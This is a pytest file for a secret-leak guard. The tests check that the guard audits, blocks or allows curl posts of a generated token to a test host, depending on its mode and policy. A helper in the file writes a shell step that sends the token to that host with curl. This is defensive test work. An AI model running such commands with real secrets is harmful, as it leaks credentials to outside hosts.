# SPDX-License-Identifier: MIT
"""docs/secrets.md: where a secret may go that neither a policy nor its format has placed."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from lab import Lab, tokens
from lab.guard import DENIED, FINDINGS, Guarded, assert_leak_stopped

pytestmark = pytest.mark.root

Guard = Callable[..., Guarded]

NAMED = "version: 1\nallow: other.test\n"
NAMED_PLAIN = "version: 1\nallow: http://other.test\n"


def post(lab: Lab, value: str, url: str) -> list[str]:
    """A step that posts the value."""
    script = lab.directory / "step.sh"
    script.write_text(f"curl -s -m 10 -d token={value} {url}\n")
    return ["sh", str(script)]


@pytest.mark.parametrize("policy", [NAMED, ""], ids=["named", "not-named"])
def test_audit_lets_it_go_to_an_ordinary_host_and_says_so(
    lab: Lab, leakstop: Guard, policy: str
) -> None:
    token = tokens.home_made()
    command = post(lab, token.value, "https://other.test/")
    run = leakstop(command, mode="audit", policy=policy, secrets=[token])
    assert (run.code, run.report["verdict"]) == (0, "pass"), run.stderr
    assert lab.other.bytes_of(token.value.encode()) == len(token.value)
    assert token.name.encode() in run.outputs(), "the reader learns that it went there"
    assert run.shows(token) == []


def test_block_stops_it_also_on_the_way_to_a_named_host(lab: Lab, leakstop: Guard) -> None:
    token = tokens.home_made()
    command = post(lab, token.value, "https://other.test/")
    run = leakstop(command, mode="block", policy=NAMED, secrets=[token])
    assert lab.other.connections == []
    assert_leak_stopped(
        run, token, finding="secret-in-argv", program="curl", destination="other.test"
    )


def test_block_denies_any_other_host_anyway(lab: Lab, leakstop: Guard) -> None:
    token = tokens.home_made()
    command = post(lab, token.value, "https://other.test/")
    run = leakstop(command, mode="block", secrets=[token])
    assert lab.other.connections == []
    assert run.code in (FINDINGS, DENIED)
    assert run.shows(token) == []


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_plain_http_is_no_place_for_a_secret(lab: Lab, leakstop: Guard, mode: str) -> None:
    token = tokens.home_made()
    command = post(lab, token.value, "http://other.test/")
    run = leakstop(command, mode=mode, policy=NAMED_PLAIN, secrets=[token])
    assert lab.other.connections == []
    assert_leak_stopped(
        run, token, finding="secret-in-argv", program="curl", destination="other.test"
    )


@pytest.mark.parametrize("mode", ["audit", "block"])
def test_a_policy_places_it(lab: Lab, leakstop: Guard, mode: str) -> None:
    token = tokens.home_made()
    placed = f"{NAMED}secrets: {{{token.name}: other.test}}\n"
    command = post(lab, token.value, "https://other.test/")
    run = leakstop(command, mode=mode, policy=placed, secrets=[token])
    assert (run.code, run.findings()) == (0, []), run.stderr
    assert lab.other.received(token.value.encode())
